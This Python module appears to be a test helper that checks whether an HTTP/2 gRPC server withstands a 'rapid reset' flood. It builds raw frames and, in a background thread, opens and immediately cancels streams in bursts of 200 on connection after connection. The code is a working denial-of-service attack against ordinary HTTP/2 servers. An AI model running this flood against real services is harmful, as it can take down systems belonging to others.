"""A client that opens HTTP/2 streams and resets each at once, as fast as its connection takes them."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS = 0, 1, 3, 4
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = struct.pack(">I", 8)


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def _header(name: str, value: str) -> bytes:
    """A literal that is not indexed (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _headers(path: str) -> bytes:
    pairs = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "test"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    )
    return b"".join(_header(name, value) for name, value in pairs)


@contextmanager
def rapid_resets(address: str, path: str) -> Iterator[None]:
    """Begins and resets calls of a method inside the with, on one connection after another."""
    host, _, port = address.rpartition(":")
    over = threading.Event()
    begun = threading.Event()
    headers = _headers(path)
    message = b"\0\0\0\0\0"

    def attack() -> None:
        while not over.is_set():
            with suppress(OSError), socket.create_connection((host, int(port)), 5) as link:
                link.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
                stream = 1
                while not over.is_set():
                    block = b"".join(
                        _frame(_HEADERS, _END_HEADERS, one, headers)
                        + _frame(_DATA, _END_STREAM, one, message)
                        + _frame(_RESET, 0, one, _CANCEL)
                        for one in range(stream, stream + 400, 2)
                    )
                    stream += 400
                    link.sendall(block)
                    begun.set()

    thread = threading.Thread(target=attack, name="resets", daemon=True)
    thread.start()
    assert begun.wait(10)
    try:
        yield
    finally:
        over.set()
        thread.join(20)
